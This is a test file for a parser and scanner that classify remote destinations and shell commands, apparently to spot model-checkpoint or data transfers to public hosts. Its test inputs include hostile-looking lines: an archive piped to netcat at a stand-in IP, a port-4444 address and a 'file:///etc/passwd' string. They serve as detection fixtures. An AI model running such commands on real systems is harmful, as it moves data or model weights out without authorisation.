import { describe, expect, it } from 'vitest';
import { isPublicIp, parseDestination } from './destination.js';
import { commandCategoryBits, COMMAND_CATEGORIES, modelFormatOf, scanCommand } from './exec-command.js';

describe('parseDestination', () => {
  it.each([
    ['s3://corp-ml-checkpoints/ml/x/model.pt', 'bucket:corp-ml-checkpoints', false],
    ['gs://Bucket-A/k', 'bucket:bucket-a', false],
    ['https://upload.filedrop-cdn.net/u/x?sig=1', 'host:upload.filedrop-cdn.net', true],
    ['http://minio.storage.svc.cluster.local:9000/b', 'host:minio.storage.svc.cluster.local', false],
    ['http://artifacts:8080/x', 'host:artifacts', false],
    ['https://user:pw@203.0.113.5:8443/x', 'host:203.0.113.5', true],
    ['http://10.1.2.3/x', 'host:10.1.2.3', false],
    ['http://[2001:db8::1]:80/', 'host:2001:db8::1', true],
    ['http://[fd00::1]/', 'host:fd00::1', false],
    ['remote:model-mirror-4412/x/', 'bucket:model-mirror-4412', false],
    ['root@198.51.100.7:/data', 'host:198.51.100.7', true],
    ['203.0.113.5:4444', 'host:203.0.113.5', true],
    ['oci://ghcr.io/org/img:tag', 'host:ghcr.io', true],
  ])('%s → %s (public %s)', (text, key, pub) => {
    expect(parseDestination(text)).toEqual({ key, publicHost: pub });
  });

  it.each(['/tmp/.cache/out/part-00', './x', '--endpoint-url', 'file:///etc/passwd', 'tar', '', '://', 's3://', 'http://', 'localhost:8080'])('%s is not a remote destination', (text) => {
    expect(parseDestination(text)).toBeNull();
  });

  it('tells private from public addresses', () => {
    for (const ip of ['10.0.0.1', '172.16.5.4', '172.31.255.255', '192.168.1.1', '127.0.0.1', '169.254.1.1', '100.64.0.1', '::1', 'fe80::1', 'fc00::2']) expect(isPublicIp(ip)).toBe(false);
    for (const ip of ['8.8.8.8', '172.32.0.1', '203.0.113.5', '2001:db8::1', '::ffff:8.8.8.8']) expect(isPublicIp(ip)).toBe(true);
    for (const junk of ['999.1.1.1', '1.2.3', 'a.b.c.d', '']) expect(isPublicIp(junk)).toBe(false);
  });
});

describe('exec commands', () => {
  const cats = (argv: string[]) => COMMAND_CATEGORIES.filter((_, k) => commandCategoryBits(scanCommand(argv)) & (1 << k));

  it('finds every tool of a shell script', () => {
    expect(cats(['/bin/sh', '-c', 'cd /x; tar cf - . | gzip > /tmp/a.gz && aws s3 cp /tmp/a.gz s3://b/k'])).toEqual(['archive', 'network', 'shell']);
    expect(cats(['bash', '-lc', '"python3.10 /opt/llama.cpp/convert_hf_to_gguf.py --outtype q8_0"'])).toEqual(['python_convert', 'shell']);
    expect(cats(['cp', '-r', '/mnt/ckpt', '/dev/shm/x'])).toEqual(['copy']);
    expect(cats(['nvidia-smi'])).toEqual([]);
  });

  it('bounds what it reads', () => {
    expect(scanCommand(['sh', '-c', 'a '.repeat(100_000)]).tokens.length).toBeLessThanOrEqual(96);
    expect(scanCommand([1, null, { a: 1 }, 'ls'])).toEqual({ tokens: ['ls'], commands: ['ls'] });
    expect(scanCommand(['sudo', '-E', 'timeout', '30', 'curl', 'x']).commands).toEqual(['sudo', 'timeout', 'curl']);
    expect(scanCommand(['sh', '-c', 'A=1 tar cf x . | nc 1.2.3.4 9']).commands).toEqual(['sh', 'tar', 'nc']);
  });

  it('names model formats by extension or declared name', () => {
    expect(modelFormatOf('/x/model-00001.safetensors')).toBe('safetensors');
    expect(modelFormatOf('GGUF')).toBe('gguf');
    expect(modelFormatOf('s3://b/m.onnx?x=1')).toBe('onnx');
    expect(modelFormatOf('/ckpt/step_10/model.pt')).toBe('pt');
    expect(modelFormatOf('/data/shard-1.tar')).toBeNull();
  });
});
